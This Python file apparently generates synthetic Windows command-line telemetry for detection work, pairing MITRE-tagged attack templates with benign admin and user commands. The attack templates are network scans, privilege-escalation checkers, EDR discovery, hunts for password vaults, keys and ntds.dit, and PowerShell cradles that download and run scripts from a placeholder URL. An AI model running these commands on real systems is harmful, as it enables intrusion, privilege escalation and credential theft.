"""Scanners, checklists of privilege hunters, searches through files and guards; and who uses the like rightly."""

from __future__ import annotations

from generator.families.windows.commands_told import AGENTS, PROMPT, STRANGE, told
from generator.scene import attack, benign

PROBE, SCAN, APP = benign("Monitoring Probe"), benign("Authorised Scan"), benign("Application Event")


told("discovery-port-scanners", attack("Port or Network Scan", "T1046", "T1018", severity="MEDIUM"), r"""
@tmp@nmap.exe -sS -Pn -p 22,80,135,139,443,445,1433,3389,5985 10.@n@.0.0/16 -oA @word@
@tmp@nmap-7.92\nmap.exe -sT -T4 --open -iL hosts.txt -p 445 --script smb-vuln-ms17-010
@tmp@masscan.exe 10.0.0.0/8 -p445,3389 --rate 10000 -oL @tmp@@word@.txt
@tmp@advanced_port_scanner_2.5.3869.exe /portable "C:\Users\@user@\AppData\Local\Temp\" /lng en_us
@tmp@Advanced_IP_Scanner_2.5.4594.1.exe /SP- /VERYSILENT
"C:\Users\@user@\AppData\Local\Temp\2\Advanced Port Scanner 2\advanced_port_scanner.exe" /portable C:/Users/@user@/Downloads/
C:\Users\Public\netscan.exe /hide /auto:result.xml /config:netscan.xml /range:all
@tmp@netscan64.exe /wakeall
@tmp@@word@.exe /hide /range:10.@n@.@n@.1-10.@n@.@n@.254 /auto:out.txt ## netscan.exe
@tmp@ipscan-win64-3.9.1.exe -f:range 192.168.0.1 192.168.255.254 -s -o @tmp@ips.csv
@tmp@fscan64.exe -h 10.@n@.0.0/16 -np -o 1.txt
@tmp@@word@.exe -h 192.168.@n@.0/24 -m ms17010 -nobr -nopoc
@tmp@kscan.exe -t 10.@n@.@n@.0/24 --check --threads 400
@tmp@gogo.exe -i 172.16.0.0/12 -m ss --ping -p win,db,all
@tmp@naabu.exe -host 10.@n@.@n@.0/24 -top-ports 1000 -o @word@.txt
@tmp@rustscan.exe -a 10.@n@.@n@.0/24 -p 445,3389,5985 -b 4000
@tmp@nbtscan.exe 192.168.@n@.0/24
@tmp@nbtscan -v -f 10.@n@.0.0/16 > @tmp@nb.txt
@tmp@portscan.exe 10.@n@.@n@.1 10.@n@.@n@.254 445,1433,3389 512
@tmp@s.exe tcp 10.@n@.0.1 10.@n@.255.254 3389 512 /save
powershell -nop -ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('@url@.ps1'); Invoke-Portscan -Hosts 10.@n@.@n@.0/24 -TopPorts 50 -oA @word@"
powershell -w hidden -c "1..1024 | % {echo ((New-Object Net.Sockets.TcpClient).Connect('@ip@',$_)) \"open $_\"} 2>$null"
powershell -nop -c "foreach($i in 1..254){foreach($p in 445,3389,1433){if((New-Object Net.Sockets.TcpClient).ConnectAsync(\"10.@n@.@n@.$i\",$p).Wait(100)){\"$i $p\" >> @tmp@open.txt}}}"
powershell -ep bypass -c "Invoke-ARPScan -CIDR 10.@n@.@n@.0/24; Invoke-SMBScanner"
python.exe @tmp@port_scan.py -t 192.168.@n@.0/24 -p 1-65535
@tmp@ncrack.exe -p 3389 -iL rdp.txt
@tmp@nxc.exe smb 10.@n@.0.0/16 --gen-relay-list relay.txt
@tmp@SharpScan.exe -h 192.168.@n@.0/24 -nobr
@tmp@netdiscover.exe & @tmp@Ladon.exe 10.@n@.@n@.0/24 OnlinePC
@tmp@Ladon911.exe 192.168.@n@.0/24 MS17010
@tmp@PortQry.exe -n @ip@ -r 1:1024 -l @tmp@pq.log
"C:\Users\@user@\Downloads\nc64.exe" -zvn -w 1 @ip@ 1-1000
""", parents=PROMPT + STRANGE[:6], most=2, weight=1.5)

told("discovery-privilege-checklists", attack("Discovery", "T1082", "T1083", "T1552.001"), r"""
@tmp@Seatbelt.exe -group=all -full
@tmp@Seatbelt.exe -group=system -outputfile="C:\Users\Public\@word@.txt"
@tmp@@word@.exe TokenPrivileges InterestingProcesses PowerShellHistory WindowsCredentialFiles ## Seatbelt.exe
@tmp@winPEASx64.exe cmd fast > @tmp@@word@.log
@tmp@winPEASany_ofs.exe quiet systeminfo userinfo servicesinfo applicationsinfo
@tmp@winPEAS.bat
@tmp@SharpUp.exe audit
@tmp@beRoot.exe
@tmp@Watson.exe
@tmp@PrivescCheck.exe -Extended -Report @word@ -Format TXT
powershell -ep bypass -c ". .\PrivescCheck.ps1; Invoke-PrivescCheck -Extended"
powershell -nop -exec bypass -c "IEX(iwr @url@/PowerUp.ps1 -useb); Invoke-AllChecks | Out-File C:\Users\Public\@word@.txt"
powershell -exec bypass -File @tmp@jaws-enum.ps1 -OutputFileName @word@.txt
powershell -ep bypass -c "Import-Module .\HostEnum.ps1; Invoke-HostEnum -Local -Domain -HTMLReport"
powershell -ep bypass -c "Import-Module .\HostRecon.ps1; Invoke-HostRecon"
powershell -c ". .\Sherlock.ps1; Find-AllVulns"
@tmp@accesschk64.exe -accepteula -uwcqv "Authenticated Users" *
@tmp@accesschk.exe -uwdqs Users c:\ /accepteula > @tmp@w.txt
cmd /c sc query state= all > @tmp@s.txt & for /f "tokens=2" %s in ('findstr SERVICE_NAME @tmp@s.txt') do sc qc %s & sc sdshow %s
cmd /c wmic service get name,displayname,pathname,startmode | findstr /i /v "C:\Windows\\" | findstr /i /v system32
reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated & reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated & cmdkey /list
@tmp@wesng\wes.exe systeminfo.txt --exploits-only
@tmp@JuicyPotatoNG.exe -s & @tmp@SweetPotato.exe -?
@tmp@SharpEDRChecker.exe
powershell -ep bypass -c "Invoke-EDRChecker -Force"
""", parents=PROMPT + STRANGE[:8], users=(None, None, "SYSTEM"), most=2)

told("discovery-guards-looked-for", attack("Discovery", "T1082", "T1047", severity="MEDIUM"), r"""
cmd /c tasklist /svc | findstr /i "«MsMpEng|SentinelAgent|CSFalconService|cb.exe|ekrn|avp|sophos|xagt|CylanceSvc»"
cmd.exe /c tasklist | findstr /i "virus cb defender cylance mcafee symantec bitdefender avast avg"
wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName /value
wmic /Node:localhost /Namespace:\\root\SecurityCenter2 Path AntiSpywareProduct Get displayName,pathToSignedReportingExe /Format:List
wmic /namespace:\\root\SecurityCenter2 path FirewallProduct get * > @tmp@@word@.txt
powershell -w hidden -c "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct | select displayName,productState"
powershell -nop -c "Get-MpPreference | select Exclusion*"
powershell -c "(Get-MpComputerStatus).RealTimeProtectionEnabled; (Get-MpPreference).ExclusionPath"
reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions" /s
reg query "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /s
reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL
reg query HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential
reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit" /v ProcessCreationIncludeCmdLine_Enabled
reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging
sc query «WinDefend|Sense|csagent|SentinelAgent|CylanceSvc|ekrn|SAVService»
sc query sysmon & fltmc instances & wevtutil gl Microsoft-Windows-Sysmon/Operational
fltmc.exe
fltmc filters | findstr 385201
netsh advfirewall show allprofiles
netsh advfirewall firewall show rule name=all | findstr /i "Rule Action"
auditpol /get /category:*
powershell -c "Get-Process | ? {$_.ProcessName -eq 'Sysmon'}; Get-Service | ? {$_.DisplayName -like '*sysm*'}; reg query HKLM\SYSTEM\CurrentControlSet\Services\SysmonDrv"
powershell -c "Get-NetFirewallProfile; Get-AppLockerPolicy -Effective -Xml"
cmd /c dir "C:\Program Files" /b | findstr /i "crowd sentinel carbon sophos eset kaspersky trend"
cmd /c dir /b C:\Windows\System32\drivers | findstr /i "sysmon cyoptics edrsensor csagent mfeaskm"
tasklist /FI "IMAGENAME eq wrsa.exe" /FO CSV & tasklist /FI "IMAGENAME eq opssvc.exe" | find /I "opssvc.exe"
findstr /I "wrsa opssvc AvastUI AVGUI nsWscSvc ekrn SophosHealth"
""", parents=STRANGE, users=(None, None, "SYSTEM"), most=3)

told("discovery-files-listed", attack("Discovery", "T1083", severity="MEDIUM"), r"""
cmd.exe /c dir /s /b C:\Users\*«pass|vpn|wallet|seed|bank|passport»* > @tmp@@word@.txt
cmd /c dir c:\ /s /b | findstr /i "«\.kdbx|\.rdp|\.ovpn|\.pfx|wallet\.dat|\.vmdk»" >> @tmp@@word@.log
cmd /c dir /a /s C:\Users\@user@\Desktop C:\Users\@user@\Documents >> %TEMP%\@word@.dat 2>&1
dir /s \\@host@\c$\Users\*.«docx|pdf|xlsx» > C:\Users\Public\@word@.txt
tree /f /a C:\Users > @tmp@@word@.txt
tree.com D:\ /F >> %PUBLIC%\tree.txt
where /r C:\ «*.kdbx|id_rsa|unattend.xml|web.config|*.ppk|ntds.dit»
forfiles /P C:\Users /S /M *.«kdbx|rdp|docx» /C "cmd /c echo @path @fsize" > @tmp@@word@.csv
for /r C:\Users %f in (*.«doc|xls|pst|pdf»*) do @echo %f >> @tmp@@word@.txt
for %d in (C D E F G) do dir %d:\ /s /b *.«bak|vhdx|mdf|edb» >> C:\ProgramData\@word@.txt
powershell -w hidden -c "Get-ChildItem -Path C:\Users -Include *.pdf,*.docx,*.xlsx -Recurse -ea 0 | select FullName,Length | Export-Csv @tmp@@word@.csv"
powershell -nop -c "gci -r -inc *.kdbx,*.key,*.pem,wallet.dat C:\ -ea SilentlyContinue | % FullName"
powershell -ep bypass -c "Get-PSDrive -PSProvider FileSystem | % {gci $_.Root -r -ea 0 | ? Length -gt 50mb} | Out-File C:\Windows\Temp\@word@.txt"
cmd /c fsutil fsinfo drives & wmic logicaldisk get name & dir C:\ /a & dir "C:\Program Files (x86)" & dir %APPDATA%
@tmp@es.exe -size -dm «password|contract|confidential» > @tmp@@word@.txt
@tmp@@word@.exe -path C:\ -s "passport|invoice|bank|nda" ## Everything.exe
cmd /c vssadmin list shadows & dir \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS
cmd.exe /c type "%APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt" & dir %APPDATA%\Microsoft\Windows\Recent
""", parents=STRANGE, users=(None, None, "SYSTEM"), most=3)

told("discovery-scanners-of-the-house", SCAN, r"""
"C:\Program Files (x86)\Nmap\nmap.exe" -sn 192.168.@n@.0/24
"C:\Program Files (x86)\Nmap\nmap.exe" -T4 -A -v @ip@
"C:\Program Files (x86)\Nmap\zenmap\bin\pythonw.exe" -c "from zenmapGUI.App import run;run()"
"C:\Program Files (x86)\Nmap\ncat.exe" -zv @host@ 443
"C:\Program Files\Tenable\Nessus\nessusd.exe"
"C:\Program Files\Tenable\Nessus\nessuscli.exe" update --all
"C:\Program Files\Tenable\Nessus Agent\nessus-agent-module.exe"
"C:\Program Files\Rapid7\NeXpose\nse\bin\nexserv.exe" -scan
"C:\Program Files (x86)\PRTG Network Monitor\PRTG Probe.exe"
"C:\Program Files (x86)\PRTG Network Monitor\Sensor System\snmptest.exe" @ip@ 161 public
"C:\Program Files (x86)\Lansweeper\Service\LansweeperService.exe" /scan:192.168.@n@.0/24
"C:\Program Files (x86)\Advanced IP Scanner\advanced_ip_scanner.exe"
"C:\Program Files\Angry IP Scanner\ipscan.exe"
"C:\Program Files\SoftPerfect Network Scanner\netscan.exe"
"C:\Program Files\Fing\resources\extraResources\fingagent.exe" --discover
"C:\Program Files\Qualys\QualysAgent\QualysAgent.exe" ScanOnDemand=1
"C:\Program Files\Acunetix\wvsc.exe" --scan https://@host@.@fqdn@
"C:\Program Files\Microsoft Baseline Security Analyzer 2\mbsacli.exe" /target @host@ /n Password+IIS
"C:\Program Files\OWASP\Zed Attack Proxy\ZAP.exe" -cmd -quickurl http://localhost:8080
"C:\Tools\PortQry\PortQry.exe" -n @dc@ -p tcp -e 389
C:\Tools\portqry.exe -n @host@ -o 80,443,1433
C:\Tools\sysinternals\psping.exe -accepteula @host@:443
powershell -c "Test-NetConnection @host@ -Port «443|1433|25|3389»"
powershell.exe -c "tnc @host@.@fqdn@ -p 8443 -InformationLevel Detailed"
powershell -NoProfile -c "1..20 | % {Test-Connection 192.168.@n@.$_ -Count 1 -Quiet}"
ping -a @ip@
curl.exe -vk https://@host@:8443/health
telnet.exe @host@ 25
""", parents=PROMPT + ("services.exe", "C:\\Program Files (x86)\\Lansweeper\\Service\\LansweeperService.exe"), users=(None, "SYSTEM"), most=3, weight=1.5)

told("discovery-checks-of-the-house", PROBE, r"""
powershell.exe -ExecutionPolicy Bypass -File "C:\ProgramData\«Wazuh|CIS|Intune»\sca_check.ps1"
powershell.exe -NonInteractive -Command "Get-MpPreference | Select-Object Exclusion* | ConvertTo-Json"
powershell -c "Get-MpComputerStatus | select AMServiceEnabled,AntivirusSignatureAge"
powershell.exe -c "(Get-NetFirewallProfile).Enabled"
wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState /value
wmic /namespace:\\root\SecurityCenter2 path FirewallProduct get displayName
reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL
reg query HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential
reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated
reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\RebootRequired"
sc query «WinDefend|Sense|CSFalconService|SentinelAgent|ekrn»
sc.exe qc «mpssvc|wuauserv|BITS|EventLog»
auditpol /get /category:*
auditpol.exe /get /subcategory:"Process Creation" /r
net accounts
secedit /export /cfg C:\ProgramData\@word@\sec.inf /areas SECURITYPOLICY
gpresult /scope computer /r
fltmc instances
netsh advfirewall show allprofiles state
tasklist /fi "imagename eq MsMpEng.exe" /nh
manage-bde -protectors -get C:
"C:\Program Files\Sysinternals\accesschk64.exe" -accepteula -q -w Users "C:\Program Files"
"C:\Program Files (x86)\ossec-agent\wazuh-agent.exe"
"C:\Windows\CCM\ScanAgent.exe" -embedding
mpcmdrun.exe -GetFiles -SupportLogLocation C:\ProgramData\Support
cscript //nologo slmgr.vbs /dli
""", parents=AGENTS, users=("SYSTEM", "SYSTEM", None), most=4, weight=1.3)

told("discovery-files-looked-up", APP, r"""
cmd /c dir /s /b *.«sln|csproj|java|php»
dir /s /b C:\Projekte\*.dwg > C:\Temp\zeichnungen.txt
dir \\@host@\scans /o-d
tree /f src
tree C:\Daten /a > C:\Temp\struktur.txt
where git
where python
where /r C:\dev *.pdb
findstr /s /i /n "TODO" *.cs
findstr /s /m "ERROR" D:\Logs\*.log
findstr /i "exception fatal denied" C:\inetpub\logs\LogFiles\W3SVC1\u_ex@n@.log
find /c "attack" C:\Logs\waf.txt
forfiles /p D:\Backup /s /m *.bak /d -14 /c "cmd /c del @path"
forfiles /P C:\inetpub\logs /S /M *.log /D -30 /C "cmd /c echo @path"
for /r D:\Fotos %f in (*.jpg) do @echo %f
for /f %i in ('dir /b D:\import\*.csv') do move D:\import\%i D:\import\done\
powershell -c "Get-ChildItem -Recurse -Filter *.tmp | Remove-Item"
powershell -NoProfile -c "gci D:\Shares -Recurse -File | Sort Length -desc | select -First 50 FullName,Length | Export-Csv C:\Temp\gross.csv"
powershell -c "Get-ChildItem C:\Users -Directory | % {'{0} {1:N0}' -f $_.Name,(gci $_.FullName -r -ea 0 | measure Length -sum).Sum}"
"C:\Program Files\Everything\es.exe" -n 20 angebot
"C:\Program Files\Everything\Everything.exe" -startup
"C:\Program Files\WinDirStat\WinDirStat.exe" D:\
"C:\Program Files\JAM Software\TreeSize\TreeSize.exe" /XLSX C:\Temp\groesse.xlsx D:\
"C:\Program Files\ripgrep\rg.exe" --files --hidden -g !node_modules
"C:\Users\@user@\AppData\Local\Programs\Microsoft VS Code\resources\app\node_modules.asar.unpacked\@vscode\ripgrep\bin\rg.exe" --json password
fsutil fsinfo drives
vssadmin list shadows
dir "C:\Program Files" /b
""", parents=PROMPT + ("C:\\Users\\@user@\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "C:\\Program Files\\JetBrains\\IntelliJ IDEA\\bin\\idea64.exe", "svchost.exe"), most=3, weight=1.3)
